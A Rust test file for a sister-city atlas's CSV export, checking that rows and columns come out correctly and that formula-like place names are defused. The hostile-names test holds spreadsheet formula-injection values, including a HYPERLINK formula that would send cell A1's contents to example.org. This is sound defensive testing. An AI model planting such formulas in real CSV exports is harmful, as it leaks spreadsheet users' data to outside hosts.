//! The CSV file that a visitor downloads, made of the shipped dataset and of a hostile one.

use sister_city_atlas::index::Atlas;
use sister_city_atlas::load::dataset::decode;
use sister_city_atlas::select::export::{COLUMNS, csv};
use sister_city_atlas::select::filter::rows;
use sister_city_atlas::state::filter::Filter;
use sister_city_atlas::validate::validate;

fn atlas(bytes: &[u8]) -> Atlas {
    Atlas::new(validate(decode(bytes).expect("it is a dataset")).0)
}

fn export(atlas: &Atlas) -> Vec<Vec<String>> {
    read(&csv(atlas, &rows(atlas, &Filter::default())))
}

/// The cells of a CSV file, read by the rules of RFC 4180 and nothing else.
fn read(file: &str) -> Vec<Vec<String>> {
    let mut lines = vec![vec![String::new()]];
    let mut is_quoted = false;
    let mut characters = file.strip_prefix('\u{FEFF}').expect("a byte order mark comes first").chars().peekable();
    while let Some(character) = characters.next() {
        let line = lines.last_mut().expect("there is a line");
        let cell = line.last_mut().expect("a line has a cell");
        match character {
            '"' if is_quoted && characters.peek() == Some(&'"') => cell.extend(characters.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => line.push(String::new()),
            '\r' if !is_quoted => assert_eq!(characters.peek(), Some(&'\n'), "lines end with CR LF"),
            '\n' if !is_quoted => lines.push(vec![String::new()]),
            other => cell.push(other),
        }
    }
    assert_eq!(lines.pop(), Some(vec![String::new()]), "the last line ends too");
    lines
}

fn cell<'a>(line: &'a [String], column: &str) -> &'a str {
    &line[COLUMNS.iter().position(|name| *name == column).expect("the column exists")]
}

#[test]
fn every_partnership_is_a_line_with_every_column() {
    let atlas = atlas(&std::fs::read("static/data/atlas.json").expect("the dataset is committed"));
    let lines = export(&atlas);
    assert_eq!(lines.len(), 1 + atlas.len());
    assert_eq!(lines[0], COLUMNS);
    assert!(lines.iter().all(|line| line.len() == COLUMNS.len()));
    // The line of `partnerships.csv` for the first partnership of all, Tianjin and Kobe.
    let first = lines.iter().find(|line| cell(line, "partner_id") == "jp-kobe").expect("Kobe has a partner");
    assert_eq!(cell(first, "home_id"), "cn-tj");
    assert_eq!(cell(first, "start_date"), "1973-06-24");
    assert_eq!(cell(first, "home_region"), "east");
    assert!(cell(first, "source_urls").starts_with("http"));
}

#[test]
fn a_hostile_name_does_not_become_a_formula() {
    let json = r#"{
        "schema_version": "1.0",
        "metadata": {"title": {"en": "Hostile"}, "version": "1", "modified": "2026-01-01", "license": "CC0-1.0", "home_country": "CN"},
        "sources": [{"id": "s1", "title": "List", "url": "https://example.org/list"}],
        "world_regions": [{"m49": "030", "name": {"en": "Eastern Asia"}}],
        "countries": [
            {"code": "CN", "name": {"en": "China"}, "region_m49": "030"},
            {"code": "JP", "name": {"en": "Japan"}, "region_m49": "030"}
        ],
        "places": [
            {"id": "a", "name": {"en": "=HYPERLINK(\"https://example.org/?\"&A1,\"Xi'an\")"}, "country_code": "CN", "latitude": -34.5, "longitude": 108.9, "admin_level": "city"},
            {"id": "b", "name": {"en": "@SUM(1,2)", "zh-Hans": "＝1+1"}, "country_code": "JP", "latitude": 34.7, "longitude": -135.8, "admin_level": "city"}
        ],
        "partnerships": [{"id": "p1", "place_a": "a", "place_b": "b", "agreement": "sister_city", "status": "active", "confidence": "low", "source_ids": ["s1"]}]
    }"#;
    let lines = export(&atlas(json.as_bytes()));
    assert_eq!(lines.len(), 2);
    assert_eq!(cell(&lines[1], "home_name_en"), "'=HYPERLINK(\"https://example.org/?\"&A1,\"Xi'an\")");
    assert_eq!(cell(&lines[1], "partner_name_en"), "'@SUM(1,2)");
    assert_eq!(cell(&lines[1], "partner_name_zh_hans"), "'＝1+1");
    assert_eq!(cell(&lines[1], "start_date"), "");
    // Numbers stay numbers.
    assert_eq!(cell(&lines[1], "home_latitude"), "-34.5");
    assert_eq!(cell(&lines[1], "partner_longitude"), "-135.8");
}
